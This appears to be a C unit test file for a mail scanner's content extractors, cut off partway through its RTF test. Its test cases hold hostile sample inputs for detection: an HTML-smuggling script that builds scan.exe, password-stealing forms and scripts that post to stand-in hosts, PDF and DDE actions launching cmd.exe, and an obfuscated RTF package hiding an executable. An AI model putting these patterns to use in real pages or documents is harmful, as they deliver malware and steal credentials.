/*
 * NAME
 *	extract_test - the extractors of src/extract: what each emits for
 *	inputs made by the test
 * SYNOPSIS
 *	build/tests/extract_test
 * DESCRIPTION
 *	Every extractor runs through a recording emitter; each case states
 *	lines that must be there ("O name type size" for an object, "L url"
 *	for a link, "F code" for a finding) and lines that must not, and a
 *	failure prints "case: got LOG, want LINE".
 *
 *	Text inputs (uuencode, yEnc, BinHex, calendars, web pages, PDF
 *	fragments, RTF) are built here, the encoders written for the test;
 *	documents and pictures come from tests/samples/extract-fixtures.py
 *	(run in setup into a temporary directory; QR pictures need qrencode
 *	and python3-pil, the cases that need them say so when they are
 *	missing).  Limits are tested with small ex_limits: a crossed limit
 *	must give content.limits and keep what was decoded.
 * LICENSE
 *	GPL-2.0-or-later
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "extract/extract.h"
#include "extract/ex_memo.h"
#include "policy/policy.h"
#include "util/hash.h"
#include "util/util.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>

#define FIXTURES "tests/samples/extract-fixtures.py"

static char fxdir[] = "/tmp/mw-extract-test.XXXXXX";
static int have_qr;

/* ---- the recording emitter ---- */

typedef struct rec {
	mw_buf log;
	mw_buf last_obj; /* bytes of the last object */
	int stop_after;  /* stop after this many callbacks (0: never) */
	int calls;
} rec;

static int rec_stop(rec *r)
{
	return r->stop_after && ++r->calls >= r->stop_after;
}

static int on_object(void *ctx, const char *name, const char *type, const void *data, size_t len)
{
	rec *r = ctx;

	buf_printf(&r->log, "O %s %s %zu\n", name ? name : "-", type ? type : "-", len);
	buf_reset(&r->last_obj);
	buf_append(&r->last_obj, data, len);
	return rec_stop(r);
}

static int on_link(void *ctx, const char *url, const char *context)
{
	rec *r = ctx;

	buf_printf(&r->log, "L %s (%s)\n", url, context);
	return rec_stop(r);
}

static int on_finding(void *ctx, const char *code, const char *detail)
{
	rec *r = ctx;

	buf_printf(&r->log, "F %s %s\n", code, detail);
	return rec_stop(r);
}

static void rec_init(rec *r)
{
	memset(r, 0, sizeof(*r));
	buf_init(&r->log, 0);
	buf_init(&r->last_obj, 0);
	buf_puts(&r->log, "");
}

static void rec_free(rec *r)
{
	buf_free(&r->log);
	buf_free(&r->last_obj);
}

/* run - one extractor over data with limits lim (NULL: defaults) */
static int run(ex_fn fn, const void *data, size_t len, const ex_limits *lim, rec *r)
{
	mw_emit e = {on_object, on_link, on_finding, r};
	ex_limits d;

	if (lim == NULL) {
		ex_limits_default(&d);
		lim = &d;
	}
	return fn(data, len, lim, &e);
}

/* has - a log line starts with want (lines are "O ...", "L ...", "F ...") */
static int has(const rec *r, const char *want)
{
	const char *p = r->log.p;
	size_t n = strlen(want);

	while (p && *p) {
		if (strncmp(p, want, n) == 0)
			return 1;
		p = strchr(p, '\n');
		if (p)
			p++;
	}
	return 0;
}

static int failures; /* reset by each test */

/* want - log must hold every line of yes and none of no (NULL-terminated lists) */
static void want(const char *name, const rec *r, const char *const *yes, const char *const *no)
{
	size_t i;

	for (i = 0; yes && yes[i]; i++)
		if (!has(r, yes[i])) {
			print_error("%s: got\n%s  want a line \"%s\"\n", name, r->log.p, yes[i]);
			failures++;
		}
	for (i = 0; no && no[i]; i++)
		if (has(r, no[i])) {
			print_error("%s: got\n%s  want no line \"%s\"\n", name, r->log.p, no[i]);
			failures++;
		}
}

#define YES(...) ((const char *const[]){__VA_ARGS__, NULL})
#define NONE     ((const char *const[]){NULL})

static char *slurp(const char *name, size_t *len)
{
	char path[512];
	FILE *f;
	char *p;
	long n;

	snprintf(path, sizeof(path), "%s/%s", fxdir, name);
	if ((f = fopen(path, "rb")) == NULL)
		return NULL;
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	p = x_malloc((size_t)n + 1);
	*len = fread(p, 1, (size_t)n, f);
	fclose(f);
	return p;
}

/* payload - a PE-looking stub of n bytes with every byte value in it */
static void payload(mw_buf *b, size_t n)
{
	size_t i;

	buf_reset(b);
	buf_append(b, "MZ", 2);
	for (i = 2; i < n; i++)
		buf_putc(b, (int)((i * 7 + i / 256) & 0xff));
}

/* ---- encoders written for the test ---- */

static void uuencode(mw_buf *out, const char *name, const unsigned char *d, size_t n)
{
	size_t i, j;

	buf_printf(out, "begin 644 %s\n", name);
	for (i = 0; i < n; i += 45) {
		size_t k = n - i < 45 ? n - i : 45;
		buf_putc(out, ' ' + (int)k);
		for (j = 0; j < k; j += 3) {
			unsigned v = (unsigned)d[i + j] << 16 | (j + 1 < k ? (unsigned)d[i + j + 1] << 8 : 0) |
			             (j + 2 < k ? d[i + j + 2] : 0);
			int s;
			for (s = 18; s >= 0; s -= 6) {
				unsigned c = v >> s & 63;
				buf_putc(out, c ? (int)(' ' + c) : '`');
			}
		}
		buf_putc(out, '\n');
	}
	buf_puts(out, "`\nend\n");
}

static void yenc(mw_buf *out, const char *name, const unsigned char *d, size_t n, int part, int bad_crc)
{
	size_t i, col = 0;
	uint32_t crc = (uint32_t)crc32(0, d, (uInt)n);

	if (part)
		buf_printf(out, "=ybegin part=1 line=128 size=%zu name=%s\r\n=ypart begin=1 end=%zu\r\n", n * 2, name,
		           n);
	else
		buf_printf(out, "=ybegin line=128 size=%zu name=%s\r\n", n, name);
	for (i = 0; i < n; i++) {
		unsigned char c = (unsigned char)(d[i] + 42);
		if (c == 0 || c == '\n' || c == '\r' || c == '=' || (col == 0 && (c == '.' || c == ' '))) {
			buf_putc(out, '=');
			buf_putc(out, c + 64);
			col += 2;
		} else {
			buf_putc(out, c);
			col++;
		}
		if (col >= 128) {
			buf_puts(out, "\r\n");
			col = 0;
		}
	}
	if (part)
		buf_printf(out, "\r\n=yend size=%zu part=1 pcrc32=%08x\r\n", n, bad_crc ? crc ^ 1 : crc);
	else
		buf_printf(out, "\r\n=yend size=%zu crc32=%08x\r\n", n, bad_crc ? crc ^ 1 : crc);
}

static uint16_t crc16(const unsigned char *p, size_t n)
{
	uint16_t crc = 0;
	size_t i;
	int k;

	for (i = 0; i < n; i++) {
		crc ^= (uint16_t)(p[i] << 8);
		for (k = 0; k < 8; k++)
			crc = (uint16_t)(crc & 0x8000 ? (crc << 1) ^ 0x1021 : crc << 1);
	}
	return crc;
}

/* binhex - BinHex 4.0 of a data fork; runs of 4 or more are run-length coded */
static void binhex(mw_buf *out, const char *name, const unsigned char *d, size_t n, int bad_crc)
{
	static const char al[] = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr";
	mw_buf raw, rle;
	size_t i, nl = strlen(name), col = 1;
	unsigned acc = 0;
	int bits = 0;
	uint16_t c;

	buf_init(&raw, 0);
	buf_init(&rle, 0);
	buf_putc(&raw, (int)nl);
	buf_append(&raw, name, nl);
	buf_append(&raw, "\0APPL????\0\0", 11);
	buf_putc(&raw, (int)(n >> 24));
	buf_putc(&raw, (int)(n >> 16 & 255));
	buf_putc(&raw, (int)(n >> 8 & 255));
	buf_putc(&raw, (int)(n & 255));
	buf_append(&raw, "\0\0\0\0", 4);
	c = crc16((const unsigned char *)raw.p, raw.len);
	buf_putc(&raw, c >> 8);
	buf_putc(&raw, c & 255);
	buf_append(&raw, d, n);
	c = (uint16_t)(crc16(d, n) ^ (bad_crc ? 1 : 0));
	buf_putc(&raw, c >> 8);
	buf_putc(&raw, c & 255);
	buf_append(&raw, "\0\0", 2);
	for (i = 0; i < raw.len;) {
		unsigned char b = (unsigned char)raw.p[i];
		size_t j = i;
		while (j < raw.len && (unsigned char)raw.p[j] == b && j - i < 255)
			j++;
		if (b == 0x90) {
			buf_append(&rle, "\x90\x00", 2);
			i++;
		} else if (j - i >= 4) {
			buf_putc(&rle, b);
			buf_putc(&rle, 0x90);
			buf_putc(&rle, (int)(j - i));
			i = j;
		} else {
			buf_putc(&rle, b);
			i++;
		}
	}
	buf_puts(out, "(This file must be converted with BinHex 4.0)\n:");
	for (i = 0; i < rle.len; i++) {
		acc = acc << 8 | (unsigned char)rle.p[i];
		bits += 8;
		while (bits >= 6) {
			bits -= 6;
			buf_putc(out, al[acc >> bits & 63]);
			if (++col == 64) {
				buf_putc(out, '\n');
				col = 0;
			}
		}
	}
	if (bits)
		buf_putc(out, al[acc << (6 - bits) & 63]);
	buf_puts(out, ":\n");
	buf_free(&raw);
	buf_free(&rle);
}

/* ---- legacy encodings ---- */

static void test_uuencode(void **state)
{
	mw_buf p, t;
	ex_limits lim;
	rec r;

	(void)state;
	failures = 0;
	buf_init(&p, 0);
	buf_init(&t, 0);
	payload(&p, 1000);

	/* in the middle of a text, named, bytes exact */
	buf_puts(&t, "Dear customer,\nthe invoice:\n\n");
	uuencode(&t, "invoice.exe", (const unsigned char *)p.p, p.len);
	buf_puts(&t, "\nRegards\n");
	rec_init(&r);
	assert_int_equal(run(ex_uuencode, t.p, t.len, NULL, &r), 0);
	want("uuencode", &r, YES("O invoice.exe - 1000", "F content.encoded uuencoded file invoice.exe"),
	     YES("F content.damaged"));
	assert_int_equal(r.last_obj.len, p.len);
	assert_memory_equal(r.last_obj.p, p.p, p.len);
	rec_free(&r);

	/* no end line: emitted as far as it goes, damaged */
	buf_reset(&t);
	uuencode(&t, "cut.exe", (const unsigned char *)p.p, 200);
	t.len -= strlen("`\nend\n");
	buf_puts(&t, "thanks\n");
	rec_init(&r);
	run(ex_uuencode, t.p, t.len, NULL, &r);
	want("uuencode without end", &r, YES("O cut.exe - 200", "F content.damaged"), NONE);
	rec_free(&r);

	/* ordinary text that starts with "begin" */
	rec_init(&r);
	run(ex_uuencode, "begin 100 days of work\nHello world, this is text.\nend\n", 55, NULL, &r);
	want("text that says begin", &r, NONE, YES("O", "F"));
	rec_free(&r);

	/* a Shift_JIS name (old Japanese mailers) becomes UTF-8 */
	buf_reset(&t);
	uuencode(&t, "\x90\xbf\x8b\x81\x8f\x91.exe", (const unsigned char *)p.p, 10);
	rec_init(&r);
	run(ex_uuencode, t.p, t.len, NULL, &r);
	want("Shift_JIS name", &r, YES("O 請求書.exe - 10"), NONE);
	rec_free(&r);

	/* begin-base64 (GNU sharutils) */
	rec_init(&r);
	run(ex_uuencode, "x\nbegin-base64 600 a.txt\naGVsbG8gd29ybGQ=\n====\n", 46, NULL, &r);
	want("begin-base64", &r, YES("O a.txt - 11"), YES("F content.damaged"));
	assert_memory_equal(r.last_obj.p, "hello world", 11);
	rec_free(&r);

	/* limits: one object cut at max_object, the second beyond max_objects */
	buf_reset(&t);
	uuencode(&t, "a.exe", (const unsigned char *)p.p, p.len);
	uuencode(&t, "b.exe", (const unsigned char *)p.p, 90);
	uuencode(&t, "c.exe", (const unsigned char *)p.p, 90);
	ex_limits_default(&lim);
	lim.max_object = 100;
	lim.max_objects = 2;
	rec_init(&r);
	run(ex_uuencode, t.p, t.len, &lim, &r);
	want("uuencode limits", &r,
	     YES("O a.exe - 100", "O b.exe - 90", "F content.limits uuencode: uuencoded file a.exe",
	         "F content.limits uuencode: more than 2 objects"),
	     YES("O c.exe"));
	rec_free(&r);
	buf_free(&p);
	buf_free(&t);
	assert_int_equal(failures, 0);
}

static void test_yenc(void **state)
{
	mw_buf p, t;
	rec r;

	(void)state;
	failures = 0;
	buf_init(&p, 0);
	buf_init(&t, 0);
	payload(&p, 3000); /* every byte value, critical ones escaped */
	buf_puts(&t, "see below\r\n");
	yenc(&t, "setup.exe", (const unsigned char *)p.p, p.len, 0, 0);
	rec_init(&r);
	run(ex_yenc, t.p, t.len, NULL, &r);
	want("yEnc", &r, YES("O setup.exe - 3000", "F content.encoded yEnc file setup.exe"), YES("F content.damaged"));
	assert_int_equal(r.last_obj.len, p.len);
	assert_memory_equal(r.last_obj.p, p.p, p.len);
	rec_free(&r);

	buf_reset(&t);
	yenc(&t, "setup.exe", (const unsigned char *)p.p, p.len, 0, 1);
	rec_init(&r);
	run(ex_yenc, t.p, t.len, NULL, &r);
	want("yEnc bad CRC", &r, YES("O setup.exe - 3000", "F content.damaged yEnc file setup.exe: CRC-32"), NONE);
	rec_free(&r);

	buf_reset(&t);
	yenc(&t, "big.rar", (const unsigned char *)p.p, 500, 1, 0);
	rec_init(&r);
	run(ex_yenc, t.p, t.len, NULL, &r);
	want("yEnc part", &r, YES("O big.rar - 500", "F content.encoded part 1 of yEnc file big.rar"),
	     YES("F content.damaged"));
	rec_free(&r);

	rec_init(&r);
	run(ex_yenc, "=ybegin line=128 size=3 name=x.bin\nklm\n", 39, NULL, &r);
	want("yEnc without =yend", &r, YES("O x.bin - 3", "F content.damaged yEnc file x.bin ends without =yend"),
	     NONE);
	rec_free(&r);
	buf_free(&p);
	buf_free(&t);
	assert_int_equal(failures, 0);
}

static void test_binhex(void **state)
{
	mw_buf p, t;
	ex_limits lim;
	rec r;
	size_t i;

	(void)state;
	failures = 0;
	buf_init(&p, 0);
	buf_init(&t, 0);
	payload(&p, 2000);
	for (i = 500; i < 900; i++)
		p.p[i] = i < 700 ? 0 : (char)0x90; /* runs and the marker byte itself */
	buf_puts(&t, "Hello,\n\n");
	binhex(&t, "report.exe", (const unsigned char *)p.p, p.len, 0);
	buf_puts(&t, "\nbye\n");
	rec_init(&r);
	run(ex_binhex, t.p, t.len, NULL, &r);
	want("BinHex", &r, YES("O report.exe - 2000", "F content.encoded BinHex file report.exe"),
	     YES("F content.damaged"));
	assert_int_equal(r.last_obj.len, p.len);
	assert_memory_equal(r.last_obj.p, p.p, p.len);
	rec_free(&r);

	buf_reset(&t);
	binhex(&t, "report.exe", (const unsigned char *)p.p, p.len, 1);
	rec_init(&r);
	run(ex_binhex, t.p, t.len, NULL, &r);
	want("BinHex bad CRC", &r,
	     YES("O report.exe - 2000", "F content.damaged BinHex file report.exe: data fork CRC"), NONE);
	rec_free(&r);

	/* a run-length bomb: 'A' repeated 255 times, 20000 times over; stops at the budget */
	buf_reset(&t);
	{
		mw_buf rle;
		buf_init(&rle, 0);
		buf_append(&rle, "\x05x.exe\0APPL????\0\0\x7f\xff\xff\xff\0\0\0\0\0\0", 27);
		for (i = 0; i < 20000; i++)
			buf_append(&rle, "A\x90\xff", 3);
		static const char al[] = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr";
		unsigned acc = 0;
		int bits = 0;
		buf_puts(&t, "(This file must be converted with BinHex 4.0)\n:");
		for (i = 0; i < rle.len; i++) {
			acc = acc << 8 | (unsigned char)rle.p[i];
			bits += 8;
			while (bits >= 6) {
				bits -= 6;
				buf_putc(&t, al[acc >> bits & 63]);
			}
		}
		buf_puts(&t, ":\n");
		buf_free(&rle);
	}
	ex_limits_default(&lim);
	lim.max_object = 100000;
	rec_init(&r);
	run(ex_binhex, t.p, t.len, &lim, &r);
	want("BinHex run bomb", &r, YES("F content.limits BinHex: BinHex file x.exe larger than 100000", "O x.exe - "),
	     NONE);
	assert_true(r.last_obj.len <= 100000);
	rec_free(&r);
	buf_free(&p);
	buf_free(&t);
	assert_int_equal(failures, 0);
}

/* ---- calendar ---- */

static void test_ics(void **state)
{
	static const char ics[] =
	    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\n"
	    "ORGANIZER;CN=Sato:mailto:sato@partner.example\r\n"
	    "DESCRIPTION:Agenda: https://agenda.example/a?x=1\\, and slides at\\nhttps://sl\r\n"
	    " ides.example/deck\r\n"
	    "LOCATION;ALTREP=\"https://alt.example/map\":Room 3\r\n"
	    "URL:https://event.example/e\r\n"
	    "ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"a;b.pdf\":JVBERi0x\r\n"
	    " LjQK\r\n"
	    "ATTACH:https://files.example/agenda.pdf\r\n"
	    "X-MICROSOFT-SKYPETEAMSMEETINGURL:https://teams.example/l/meetup-join/123\r\n"
	    "END:VEVENT\r\nEND:VCALENDAR\r\n";
	rec r;

	(void)state;
	failures = 0;
	rec_init(&r);
	run(ex_ics, ics, sizeof(ics) - 1, NULL, &r);
	want("calendar", &r,
	     YES("L https://agenda.example/a?x=1 (calendar DESCRIPTION)",
	         "L https://slides.example/deck (calendar DESCRIPTION)", "L https://event.example/e (calendar URL)",
	         "L https://files.example/agenda.pdf (calendar ATTACH)", "L https://teams.example/l/meetup-join/123",
	         "O a;b.pdf application/pdf 9", "F doc.embedded_file calendar ATTACH carries a;b.pdf"),
	     YES("L mailto", "L sato"));
	assert_memory_equal(r.last_obj.p, "%PDF-1.4\n", 9);
	rec_free(&r);

	/* fuzz regression: a type hint with control characters is made printable */
	static const char bad_type[] = "ATTACH;FMTTYPE=app\x01lication/pdf;ENCODING=BASE64:JVBERi0x\r\n";
	rec_init(&r);
	run(ex_ics, bad_type, sizeof(bad_type) - 1, NULL, &r);
	want("calendar type with a control character", &r, YES("O - app?lication/pdf 6"), NONE);
	rec_free(&r);

	/* fuzz regression: a control character in a property name does not reach the link context */
	static const char bad_name[] = "X\rURL:see https://a.example/x\r\n";
	rec_init(&r);
	run(ex_ics, bad_name, sizeof(bad_name) - 1, NULL, &r);
	want("calendar property name with a control character", &r, YES("L https://a.example/x (calendar X?URL)"),
	     NONE);
	rec_free(&r);
	assert_int_equal(failures, 0);
}

/* ---- HTML and SVG ---- */

static void test_html(void **state)
{
	static const struct {
		const char *name, *html;
		const char *yes[6], *no[4];
	} c[] = {
	    {"smuggling with joined literals",
	     "<html><body><script>var d = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' +\n"
	     "  'AAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4=';\n"
	     "var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))], {type: 'application/x-msdownload'});\n"
	     "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'scan.exe';\n"
	     "a.click();</script></body></html>",
	     {"F html.smuggling script builds a file scan.exe", "O scan.exe application/x-msdownload 107", NULL},
	     {NULL}},
	    {"msSaveOrOpenBlob name",
	     "<script>var x='data:application/zip;base64,UEsDBAoAAAAAAA==';"
	     "navigator.msSaveOrOpenBlob(new Blob([x]), \"docs.zip\");</script>",
	     {"F html.smuggling", "O docs.zip application/zip 10", NULL},
	     {NULL}},
	    {"download link with a data: URL",
	     "<p><a download=\"invoice.hta\" href=\"data:application/hta;base64,PHNjcmlwdD4=\">get</a>",
	     {"F html.smuggling a download link with a data: URL builds a file invoice.hta",
	      "O invoice.hta application/hta 8", NULL},
	     {NULL}},
	    {"credential form",
	     "<form method=post action=\"https://collect.example/p.php\"><input type=text name=u>"
	     "<INPUT TYPE=\"PASSWORD\" name=p></form>",
	     {"F html.credential_form password form posts to https://collect.example/p.php",
	      "L https://collect.example/p.php (password form action)", NULL},
	     {NULL}},
	    {"credential via script",
	     "<input type=password id=p><script>function go(){var x=new XMLHttpRequest();"
	     "x.open('POST','https://api.telegram.example/bot1/send');x.send(p.value);}</script>",
	     {"F html.credential_form password field with script that sends data",
	      "L https://api.telegram.example/bot1/send (script of a password page)", NULL},
	     {NULL}},
	    {"meta refresh with entities",
	     "<meta http-equiv=\"Refresh\" content=\"0;URL='https://next.example/a?b=1&amp;c=2'\">",
	     {"F html.redirect meta refresh to https://next.example/a?b=1&amp;c=2",
	      "L https://next.example/a?b=1&c=2 (meta refresh)", NULL},
	     {NULL}},
	    {"svg script",
	     "<?xml version=\"1.0\"?><!-- x --><svg xmlns=\"http://www.w3.org/2000/svg\">"
	     "<svg:script>location.href = \"https://svg.example/x\";</svg:script></svg>",
	     {"F svg.script SVG image carries a script", "L https://svg.example/x (script navigation)", NULL},
	     {NULL}},
	    {"svg handler and foreignObject",
	     "<svg onload=\"alert(1)\"><foreignObject><iframe/></foreignObject></svg>",
	     {"F svg.script SVG image with an event handler (onload)", "F svg.script SVG image embeds HTML", NULL},
	     {NULL}},
	    {"svg javascript link",
	     "<svg><a xlink:href=\"  javascript:alert(1)\"><text>x</text></a></svg>",
	     {"F svg.script SVG image with a javascript: link", NULL},
	     {NULL}},
	    {"inline QR picture",
	     "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
	     {"O - image/png 8", NULL},
	     {"F", NULL}},
	    {"ordinary newsletter",
	     "<!doctype html><html><body onload=\"init()\"><a href=\"https://shop.example/sale\">Sale</a>"
	     "<form action=\"https://shop.example/search\"><input name=q></form>"
	     "<script>function init(){document.title='x';}</script><img src=\"https://t.example/p.gif\"></body></html>",
	     {NULL},
	     {"F", "O", "L", NULL}},
	    {"password form posting to itself",
	     "<form action=\"/login\"><input type=password></form>",
	     {NULL},
	     {"F", NULL}},
	    {"unterminated attribute swallows the rest, as in a browser",
	     "<scr<ipt <a href=\"data:x<<!--<form action='https://x.example/'><input type=password",
	     {NULL},
	     {"F", "O", NULL}},
	};
	size_t i;

	(void)state;
	failures = 0;
	for (i = 0; i < MW_ARRAY_LEN(c); i++) {
		rec r;
		rec_init(&r);
		run(ex_html, c[i].html, strlen(c[i].html), NULL, &r);
		want(c[i].name, &r, c[i].yes[0] ? c[i].yes : NULL, c[i].no[0] ? c[i].no : NULL);
		rec_free(&r);
	}
	assert_int_equal(failures, 0);
}

/* ---- PDF ---- */

static void test_pdf(void **state)
{
	static const struct {
		const char *name, *pdf;
		const char *yes[5], *no[3];
	} c[] = {
	    {"escaped strings and names",
	     "%PDF-1.4\n1 0 obj << /OpenAction << /S /Java#53cript /JS (app.launchURL\\(\"https://js.example/x\"\\)) "
	     ">> "
	     "/Annots [<< /A << /S /URI /URI (https://a.example/\\(1\\)) >> >> << /A << /URI "
	     "<68747470733a2f2f682e6578616d706c65> >> >>] >> endobj",
	     {"F content.auto_action PDF runs a JavaScript action when opened", "L https://a.example/(1) (PDF link)",
	      "L https://h.example (PDF link)", "L https://js.example/x (PDF JavaScript)", NULL},
	     {NULL}},
	    {"OpenAction by reference",
	     "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 7 0 R >> endobj\n"
	     "7 0 obj << /S /SubmitForm /F << /F (https://sub.example/f) /FS /URL >> >> endobj",
	     {"F content.auto_action PDF runs a SubmitForm action when opened",
	      "L https://sub.example/f (PDF form submit)", NULL},
	     {NULL}},
	    {"a link is no action",
	     "%PDF-1.4\n1 0 obj << /Annots [<< /A << /S /URI /URI (https://b.example/) >> >>] >> endobj",
	     {"L https://b.example/ (PDF link)", NULL},
	     {"F", NULL}},
	    {"Launch on click",
	     "%PDF-1.4\n3 0 obj << /A << /S /Launch /Win << /F (cmd.exe) /P (/c x) >> >> >> endobj",
	     {"F content.auto_action PDF Launch action runs cmd.exe", NULL},
	     {NULL}},
	    {"document JavaScript",
	     "%PDF-1.4\n1 0 obj << /Type /Catalog /Names << /JavaScript 5 0 R >> >> endobj",
	     {"F content.auto_action PDF has document-level JavaScript", NULL},
	     {NULL}},
	    {"encrypted",
	     "%PDF-1.4\n1 0 obj << /A << /URI (\x8f\x01\x02zz) >> >> endobj\ntrailer << /Encrypt 9 0 R >>",
	     {"F content.damaged encrypted PDF", NULL},
	     {"L", NULL}},
	    {"truncated and unbalanced",
	     "%PDF-1.4\n1 0 obj << /A << /URI (https://t.example/) >> [[[ << (unterminated",
	     {"L https://t.example/ (PDF link)", NULL},
	     {NULL}},
	};
	size_t i, len;
	char *data;
	rec r;

	(void)state;
	failures = 0;
	for (i = 0; i < MW_ARRAY_LEN(c); i++) {
		rec_init(&r);
		run(ex_pdf, c[i].pdf, strlen(c[i].pdf), NULL, &r);
		want(c[i].name, &r, c[i].yes[0] ? c[i].yes : NULL, c[i].no[0] ? c[i].no : NULL);
		rec_free(&r);
	}
	/* 4 MB of stray delimiters: skipped in a loop (this once recursed, one frame per byte) */
	{
		size_t n = 4u << 20;
		char *p = x_malloc(n);
		memset(p, ')', n);
		memcpy(p, "%PDF-1.4 ", 9);
		rec_init(&r);
		run(ex_pdf, p, n, NULL, &r);
		want("stray delimiters", &r, NONE, YES("F", "L", "O"));
		rec_free(&r);
		x_free(p);
	}
	/* files made by the fixture script: embedded file with its name, object stream */
	if ((data = slurp("actions.pdf", &len)) != NULL) {
		rec_init(&r);
		run(ex_pdf, data, len, NULL, &r);
		want("actions.pdf", &r,
		     YES("F content.auto_action PDF Launch action runs cmd.exe",
		         "F content.auto_action PDF runs a JavaScript action", "L https://pdf-link.example/login?id=1",
		         "F doc.embedded_file PDF embeds payload.exe", "O payload.exe - "),
		     NONE);
		assert_memory_equal(r.last_obj.p, "MZ", 2);
		rec_free(&r);
		x_free(data);
	}
	if ((data = slurp("objstm.pdf", &len)) != NULL) {
		rec_init(&r);
		run(ex_pdf, data, len, NULL, &r);
		want("objstm.pdf", &r, YES("L https://objstm-link.example/x (PDF link)"), NONE);
		rec_free(&r);
		x_free(data);
	}
	assert_int_equal(failures, 0);
}

/* ---- Office, OLE, RTF ---- */

static void test_office(void **state)
{
	size_t len;
	char *data;
	rec r;

	(void)state;
	failures = 0;
	data = slurp("external.docx", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_office, data, len, NULL, &r);
	want("external.docx", &r,
	     YES("L https://docx-link.example/invoice?id=7 (OOXML hyperlink relationship)",
	         "F doc.remote_content word/_rels/settings.xml.rels: attachedTemplate loaded from "
	         "https://templates.example",
	         "F doc.remote_content word/_rels/document.xml.rels: oleObject loaded from file://///smb-share.example",
	         "F doc.ole_object word/embeddings/oleObject1.bin: OLE Package object carries payload.exe",
	         "O payload.exe - ", "F content.active word/activeX/activeX1.xml: ActiveX control {8856F961"),
	     YES("F doc.remote_content word/_rels/document.xml.rels: hyperlink",
	         "F doc.remote_content word/_rels/document.xml.rels: image"));
	rec_free(&r);
	x_free(data);

	data = slurp("external.odt", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_office, data, len, NULL, &r);
	want("external.odt", &r,
	     YES("L https://odt-link.example/pay (ODF link)",
	         "F doc.remote_content content.xml: <draw:object> loads https://odt-object.example/obj"),
	     NONE);
	rec_free(&r);
	x_free(data);

	/* an Excel link to another workbook asks before it updates: a link, no finding */
	data = slurp("macrosheet.xlsm", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_office, data, len, NULL, &r);
	want("macrosheet.xlsm", &r, YES("L https://xlsx-link.example/book.xlsx (OOXML externalLinkPath relationship)"),
	     YES("F"));
	rec_free(&r);
	x_free(data);

	data = slurp("dde.docx", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_office, data, len, NULL, &r);
	want("dde.docx", &r,
	     YES("F content.auto_action word/document.xml: DDE field DDEAUTO c:?windows?system32?cmd.exe"), NONE);
	rec_free(&r);
	x_free(data);

	data = slurp("macro.odt", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_office, data, len, NULL, &r);
	want("macro.odt", &r,
	     YES("F content.auto_action content.xml: event office:load runs macro "
	         "vnd.sun.star.script:Standard.Module1.Main",
	         "F attach.macro OpenDocument macro module Basic/Standard/Module1.xml"),
	     NONE);
	rec_free(&r);
	x_free(data);

	data = slurp("plain.zip", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_office, data, len, NULL, &r);
	want("plain.zip", &r, NONE, YES("F", "L", "O"));
	rec_free(&r);
	x_free(data);

	rec_init(&r);
	run(ex_office, "not a zip at all", 16, NULL, &r);
	want("not a zip", &r, YES("F content.damaged"), NONE);
	rec_free(&r);

	data = slurp("package.ole", &len);
	assert_non_null(data);
	rec_init(&r);
	run(ex_ole, data, len, NULL, &r);
	want("package.ole", &r,
	     YES("F doc.ole_object OLE2 file: OLE Package object carries payload.exe", "O payload.exe - "), NONE);
	rec_free(&r);
	/* every truncation of the compound file: bounded, no crash */
	for (size_t n = 0; n < len; n += 61) {
		rec_init(&r);
		run(ex_ole, data, n, NULL, &r);
		rec_free(&r);
	}
	x_free(data);
	assert_int_equal(failures, 0);
}

/* ole1_package_hex - an OLE1 Package object holding a file, as hex for \objdata */
static void ole1_package_hex(mw_buf *hex, const char *label, const char *tmp, const char *data, size_t n)
{
	mw_buf b;
	size_t i;
	uint32_t v;

	buf_init(&b, 0);
	buf_append(&b, "\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0", 28);
	mw_buf nat;
	buf_init(&nat, 0);
	buf_append(&nat, "\x02\0", 2);
	buf_append(&nat, label, strlen(label) + 1);
	buf_append(&nat, "C:\\x\0", 5);
	buf_append(&nat, "\0\0\x03\0", 4);
	v = (uint32_t)strlen(tmp) + 1;
	buf_append(&nat, &v, 4);
	buf_append(&nat, tmp, strlen(tmp) + 1);
	v = (uint32_t)n;
	buf_append(&nat, &v, 4);
	buf_append(&nat, data, n);
	v = (uint32_t)nat.len;
	buf_append(&b, &v, 4);
	buf_append(&b, nat.p, nat.len);
	for (i = 0; i < b.len; i++) {
		buf_printf(hex, "%02x", (unsigned char)b.p[i]);
		if (i % 32 == 31)
			buf_puts(hex, "\r\n");
	}
	buf_free(&nat);
	buf_free(&b);
}

static void test_rtf(void **state)
{
	mw_buf t, hex;
	size_t i, len;
	char *data;
	rec r;

	(void)state;
	failures = 0;
	buf_init(&t, 0);
	buf_init(&hex, 0);
	ole1_package_hex(&hex, "invoice.pdf", "C:\\Temp\\invoice.pdf.exe", "MZ\x90\0", 4);
	/* Word-style obfuscation: newline after \objdata, junk groups inside, an odd prefix */
	buf_puts(&t, "{\\rtvpn{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata\n");
	buf_append(&t, hex.p, 40);
	buf_puts(&t, "{\\*\\junk 0000}");
	buf_append(&t, hex.p + 40, hex.len - 40);
	buf_puts(&t, "}}}");
	rec_init(&r);
